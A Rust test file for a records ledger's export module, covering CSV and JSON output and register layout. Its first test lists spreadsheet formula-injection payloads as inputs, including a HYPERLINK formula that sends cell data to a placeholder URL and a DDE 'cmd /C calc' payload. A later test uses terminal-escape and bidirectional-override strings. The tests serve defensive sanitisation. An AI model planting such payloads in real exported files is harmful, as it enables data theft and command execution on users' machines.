//! The export module's own tests: cells, lines, folds and cleaning.

use std::collections::BTreeMap;

use serde_json::Value;

use super::lines::*;
use super::*;
use crate::records::{Event, EventBody, EventKind};

#[test]
fn cells_that_a_spreadsheet_would_evaluate_become_text() {
    for (cell, want) in [
        (
            "=HYPERLINK(\"http://x/?\"&A1)",
            "'=HYPERLINK(\"http://x/?\"&A1)",
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        // Full-width forms, which Excel in Japanese evaluates as well.
        (
            "＝HYPERLINK(\"http://x/?\"&A1)",
            "'＝HYPERLINK(\"http://x/?\"&A1)",
        ),
        ("＋cmd|' /C calc'!A0", "'＋cmd|' /C calc'!A0"),
        ("－2＋3", "'－2＋3"),
        ("＠SUM(1)", "'＠SUM(1)"),
        ("大阪＝府", "大阪＝府"),
        ("ISOU-20261126-ABCDEFGH", "ISOU-20261126-ABCDEFGH"),
        ("大阪府がん登録室", "大阪府がん登録室"),
        ("", ""),
        ("a=b", "a=b"),
    ] {
        assert_eq!(not_a_formula(cell), want, "{cell:?}");
    }
    let mut row = BTreeMap::new();
    row.insert("移送元", "=1+1".to_string());
    row.insert("移送ID", "ISOU-1".to_string());
    row.insert("移送先", "＝1＋1".to_string());
    let mut out = Vec::new();
    write_csv(&mut out, &["移送ID", "移送元", "移送先"], &[row]).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert_eq!(
        text,
        "\u{feff}移送ID,移送元,移送先\r\nISOU-1,'=1+1,'＝1＋1\r\n"
    );
}

#[test]
fn record_show_wraps_every_fact_in_full() {
    let long = format!("{} {}", "a".repeat(150), "b,".repeat(60));
    let e = Event {
        id: 7,
        recorded_at: "2026-12-03T00:00:00Z".into(),
        kind: EventKind::Verified,
        unknown_kind: None,
        shipment: "ISOU-1".into(),
        body: serde_json::json!({"note": long, "gone": null, "n": 3}),
        prev_hash: String::new(),
        hash: String::new(),
    };
    let lines = show_lines(std::slice::from_ref(&e));
    // The stored UTC instant, shown in the registry's zone (JST by default).
    assert_eq!(
        lines[0],
        "ID  日時                  種別 kind      移送ID  担当 by  結果 result"
    );
    assert_eq!(
        lines[1],
        // No `valid` and no `set_complete` read as their defaults (false), as the
        // registers read them: a check of an incomplete set (未了), never 正常.
        " 7  2026-12-03 09:00 JST  検証 verified  ISOU-1           未了"
    );
    assert!(lines.contains(&"event 7  2026-12-03 09:00 JST  検証 verified".to_string()));
    assert!(lines.iter().all(|l| l.chars().count() <= SHOW_WIDTH + 12));
    let joined: String = lines
        .iter()
        .map(|l| l.trim_start())
        .collect::<Vec<_>>()
        .concat();
    assert!(joined.contains(&format!("note  {long}")), "{lines:#?}");
    assert!(
        lines.contains(&"    gone  (none)".to_string()),
        "{lines:#?}"
    );
    assert!(lines.contains(&"    n     3".to_string()));
}

#[test]
fn list_columns_line_up_by_terminal_width() {
    let ev = |id, by: &str, body: Value| Event {
        id,
        recorded_at: "2026-12-03T00:00:00Z".into(),
        kind: EventKind::Disposed,
        unknown_kind: None,
        shipment: "ISOU-1".into(),
        body: serde_json::json!({"by": by, "method": body}),
        prev_hash: String::new(),
        hash: String::new(),
    };
    let lines = list_lines(&[
        ev(9, "山田 太郎", "物理破壊".into()),
        ev(10, "bob", "x".repeat(80).into()),
    ]);
    let col = |l: &str, what: &str| display_width(&l[..l.find(what).unwrap()]);
    assert_eq!(
        col(&lines[1], "物理破壊"),
        col(&lines[2], "xxx"),
        "{lines:#?}"
    );
    assert_eq!(col(&lines[0], "結果"), col(&lines[2], "xxx"), "{lines:#?}");
    assert!(lines[2].ends_with('…') && display_width(&lines[2]) < 120);
}

/// An event of `kind` with `body`, recorded at `at`.
fn event(id: i64, kind: EventKind, shipment: &str, at: &str, body: Value) -> Event {
    Event {
        id,
        recorded_at: at.into(),
        kind,
        unknown_kind: None,
        shipment: shipment.into(),
        body,
        prev_hash: String::new(),
        hash: String::new(),
    }
}

#[test]
fn a_body_of_the_wrong_shape_is_said_not_folded() {
    // A row written outside isou: its kind says sealed, its body is no seal.
    let events = [event(
        1,
        EventKind::Sealed,
        "ISOU-1",
        "2026-12-03T00:00:00Z",
        serde_json::json!({"summary": 5}),
    )];
    let rows = transport_register(&events);
    assert_eq!(rows[0]["区分"], "");
    assert_eq!(
        rows[0]["備考"],
        "読めない記録: 記録1 (sealed) は記録簿に反映していない"
    );
    assert!(media_register(&events).is_empty());
}

#[test]
fn a_set_received_a_part_at_a_time_lists_its_volumes_in_order() {
    let check = |id, kind, missing: Vec<usize>, complete| {
        let v = crate::records::event::Verification {
            valid: complete,
            authenticated: complete,
            medium_type: Some("CD-R ×3".into()),
            volumes: vec!["x".into(); 3 - missing.len()],
            set_complete: complete,
            missing,
            signer_pinned: true,
            class: "identifiable".into(),
            class_stated: true,
            by: "佐藤".into(),
            ..Default::default()
        };
        let body = match kind {
            EventKind::Received => EventBody::Received(v),
            _ => EventBody::CheckedIncomplete(v),
        };
        event(
            id,
            kind,
            "ISOU-20261203-ABCDEFGH",
            "2026-12-03T00:00:00Z",
            body.to_value(),
        )
    };
    let events = [
        check(1, EventKind::CheckedIncomplete, vec![1, 2], false),
        check(2, EventKind::Received, vec![], true),
    ];
    let ids: Vec<String> = media_register(&events)
        .into_iter()
        .map(|r| r["媒体ID"].clone())
        .collect();
    assert_eq!(
        ids,
        [
            "ISOU-20261203-ABCDEFGH-1/3",
            "ISOU-20261203-ABCDEFGH-2/3",
            "ISOU-20261203-ABCDEFGH-3/3"
        ]
    );
    let t = transport_register(&events);
    assert_eq!(t[0]["受領時の検証結果"], "正常");
    assert_eq!(t[0]["受領時刻"], "09:00");
    let c = check_register(&events);
    let results: Vec<&str> = c.iter().map(|r| r["結果"].as_str()).collect();
    assert_eq!(results, ["未了", "正常"]);
}

#[test]
fn every_column_has_a_type_and_time_columns_name_the_zone() {
    assert_eq!(column_type("受領日"), ColumnType::Date);
    assert_eq!(column_type("受領時刻"), ColumnType::Time);
    assert_eq!(column_type("媒体数"), ColumnType::Count);
    assert_eq!(column_type("備考"), ColumnType::Text);
    assert_eq!(titled("受領時刻"), "受領時刻(JST)");
    assert_eq!(titled("受領日"), "受領日");
    for r in REGISTERS {
        assert_eq!(register(r.name).map(|x| x.title), Some(r.title));
        for c in r.columns {
            assert!(!c.contains("日時"), "{c}: a date and a time in one cell");
        }
    }
}

#[test]
fn cells_and_json_from_the_ledger_are_cleaned() {
    let evil = "\u{1b}]0;t\u{7}\u{202e}=1";
    let mut row = BTreeMap::new();
    row.insert("移送ID", "ISOU-1".to_string());
    row.insert("移送元", evil.to_string());
    row.insert("移送先", format!("={evil}"));
    let mut out = Vec::new();
    write_csv(&mut out, &["移送ID", "移送元", "移送先"], &[row.clone()]).unwrap();
    assert_eq!(
        String::from_utf8(out).unwrap(),
        "\u{feff}移送ID,移送元,移送先\r\nISOU-1,\u{fffd}]0;t\u{fffd}\u{fffd}=1,'=\u{fffd}]0;t\u{fffd}\u{fffd}=1\r\n"
    );
    let mut out = Vec::new();
    write_json(&mut out, &[row]).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(
        !text.contains(['\u{202e}']) && !text.contains("\\u001b"),
        "{text}"
    );
    assert!(text.contains("\u{fffd}]0;t"), "{text}");
}
